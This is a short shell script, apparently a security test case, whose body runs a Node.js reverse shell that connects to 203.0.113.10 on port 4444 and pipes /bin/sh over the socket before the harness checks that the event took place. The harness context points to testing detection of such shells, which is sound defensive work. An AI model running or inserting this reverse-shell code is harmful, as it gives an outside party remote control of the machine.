#!/bin/sh
. /opt/case/case.sh

node -e '
const shell = require("child_process").spawn("/bin/sh", []);
const peer = require("net").connect(4444, "203.0.113.10", () => {
    peer.pipe(shell.stdin);
    shell.stdout.pipe(peer);
    shell.stderr.pipe(peer);
});
peer.on("error", () => {});
shell.on("exit", () => process.exit(0));'
wait_for /tmp/reached
took_place
